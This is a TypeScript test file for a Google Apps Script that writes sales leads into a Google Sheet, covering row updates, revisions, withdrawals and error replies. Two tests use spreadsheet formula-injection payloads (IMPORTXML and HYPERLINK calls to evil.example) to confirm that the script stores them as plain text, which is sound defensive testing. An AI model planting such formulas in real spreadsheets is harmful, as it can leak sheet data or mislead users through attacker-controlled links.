import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { runInNewContext } from 'node:vm';
import { googleSheet } from '../../src/formats/presets/google-sheet.js';
import type { Lead } from '../../src/lead/lead.js';
import { HOT, LEAD_ID, leadOf } from '../lead/kestrel.js';

const script = readFileSync(new URL('../../src/formats/presets/google-sheet.gs', import.meta.url), 'utf8');

type Cell = string | number;

/** A sheet as the script sees it: texts behind an apostrophe stay as they are, others may become formulas. */
const stage = () => {
  const rows: Cell[][] = [];
  const log: string[] = [];
  let isBusy = false;
  const put = (row: number, column: number, value: Cell): void => {
    while (rows.length < row) rows.push([]);
    const cells = rows[row - 1] ?? [];
    while (cells.length < column) cells.push('');
    if (typeof value === 'string' && value.startsWith('=')) throw new Error('a formula');
    cells[column - 1] = typeof value === 'string' ? value.replace(/^'/, '') : value;
  };
  const at = (row: number, column: number): Cell => rows[row - 1]?.[column - 1] ?? '';
  const sheet = {
    getLastRow: () => rows.length,
    getLastColumn: () => Math.max(0, ...rows.map(({ length }) => length)),
    getRange: (row: number, column: number, height = 1, width = 1) => ({
      getValue: () => at(row, column),
      getValues: () =>
        Array.from({ length: height }, (_, i) =>
          Array.from({ length: width }, (__, j) => at(row + i, column + j)),
        ),
      setValue: (value: Cell) => put(row, column, value),
      setValues: (values: Cell[][]) =>
        values.forEach((line, i) => line.forEach((value, j) => put(row + i, column + j, value))),
      clearContent: () => put(row, column, ''),
    }),
  };
  let exists = false;
  const world = {
    LockService: {
      getScriptLock: () => ({
        waitLock: () => {
          log.push('lock');
          if (isBusy) throw new Error('Lock timeout');
        },
        releaseLock: () => log.push('release'),
      }),
    },
    SpreadsheetApp: {
      getActiveSpreadsheet: () => ({
        getSheetByName: () => (exists ? sheet : null),
        insertSheet: () => {
          exists = true;
          return sheet;
        },
      }),
      flush: () => log.push('flush'),
    },
    ContentService: {
      MimeType: { JSON: 'json' },
      createTextOutput: (text: string) => ({ setMimeType: () => text }),
    },
  };
  const doPost = runInNewContext(`${script}\ndoPost`, world) as (event: object) => string;
  const settings = { to: 'google-sheet', url: 'https://script.google.com/macros/s/x/exec' };
  return {
    rows,
    log,
    put,
    column: (title: string): number => (rows[0] ?? []).indexOf(title),
    busy: (is: boolean) => (isBusy = is),
    post: (contents: string): unknown => JSON.parse(doPost({ postData: { contents } })),
    send: (lead: Lead): unknown =>
      JSON.parse(doPost({ postData: { contents: googleSheet.write(lead, settings, 'Europe/London').body } })),
  };
};

const lead = leadOf(HOT);
const revised = (revision: number, more: Partial<Lead> = {}): Lead => ({
  ...lead,
  key: `${LEAD_ID}.${revision}`,
  revision,
  ...more,
});

describe('the script of the Google sheet', () => {
  it('adds titles and one row, under lock, and repeats the key', () => {
    const { rows, log, column, send } = stage();
    assert.deepEqual(send(lead), { key: lead.key });
    assert.equal(rows.length, 2);
    assert.equal(rows[1]?.[column('Lead')], LEAD_ID);
    assert.equal(rows[1]?.[column('E-mail')], 'priya@northfold.example');
    assert.equal(rows[1]?.[column('Phone')], '+44 7700 900123');
    assert.deepEqual(log, ['lock', 'flush', 'release']);
  });

  it('changes the row of a lead that it knows; others get their own', () => {
    const { rows, column, send } = stage();
    send(lead);
    send({ ...lead, id: 'f'.repeat(32), key: `${'f'.repeat(32)}.1` });
    send(revised(2, { contact: { name: 'Priya Shah', email: 'new@northfold.example' } }));
    assert.equal(rows.length, 3);
    assert.equal(rows[1]?.[column('E-mail')], 'new@northfold.example');
    assert.equal(rows[1]?.[column('Phone')], '', 'what is not said any more goes');
    assert.equal(rows[2]?.[column('E-mail')], 'priya@northfold.example');
  });

  it('says yes to what it has, and lets an older one change nothing', () => {
    const { rows, column, send } = stage();
    send(revised(2));
    const before = structuredClone(rows);
    assert.deepEqual(send(revised(2, { contact: { name: 'Other' } })), { key: `${LEAD_ID}.2` });
    assert.deepEqual(send(revised(1, { contact: { name: 'Older' } })), { key: `${LEAD_ID}.1` });
    assert.deepEqual(rows, before);
    assert.equal(rows[1]?.[column('Revision')], 2);
  });

  it('leaves the owner’s columns alone, wherever they stand, until all is taken back', () => {
    const { rows, put, column, send } = stage();
    put(1, 1, 'Called?');
    send(lead);
    put(2, 1, 'yes');
    send(revised(2));
    assert.equal(rows[1]?.[column('Called?')], 'yes');
    const { contact: _who, qualification: _judged, answers: _given, ...bare } = revised(3);
    send({ ...bare, phase: 'withdrawn', consents: [] });
    assert.equal(rows.length, 2);
    const left = rows[1]?.filter((cell) => cell !== '') ?? [];
    assert.deepEqual(left.includes('yes'), false);
    assert.doesNotMatch(left.join(' '), /Shah|northfold\.example|7700/);
    assert.match(left.join(' '), /Withdrawn/);
  });

  it('takes nothing for a formula', () => {
    const { rows, column, send } = stage();
    assert.deepEqual(
      send({ ...lead, contact: { name: '=IMPORTXML("https://evil.example")', email: 'a@b.c' } }),
      {
        key: lead.key,
      },
    );
    assert.equal(rows[1]?.[column('Name')], '=IMPORTXML("https://evil.example")');
  });

  it('takes nothing for a formula that was not written by us either', () => {
    const { rows, post } = stage();
    const made = { id: LEAD_ID, key: `${LEAD_ID}.1`, revision: 1, phase: 'complete', row: { '=A1': '=B2' } };
    assert.deepEqual(post(JSON.stringify(made)), { key: made.key });
    assert.deepEqual(rows[0]?.at(-1), '=A1');
    const revision = '=HYPERLINK("https://evil.example")';
    assert.deepEqual(post(JSON.stringify({ ...made, revision, key: `${LEAD_ID}.${revision}` })), {
      error: 'This is no lead.',
    });
  });

  it('answers in words when it cannot, which is not taken for a yes', () => {
    const { rows, post, busy, send } = stage();
    for (const contents of [
      '',
      '{}',
      'null',
      '{"id":"x","key":"x.1","revision":1}',
      `{"id":"${LEAD_ID}","key":"x"}`,
      `{"id":"${LEAD_ID}","key":"${LEAD_ID}.1","revision":1}`,
    ]) {
      assert.deepEqual(Object.keys(post(contents) as object), ['error'], contents);
    }
    busy(true);
    assert.deepEqual(send(lead), { error: 'Lock timeout' });
    assert.equal(rows.length, 0);
  });
});
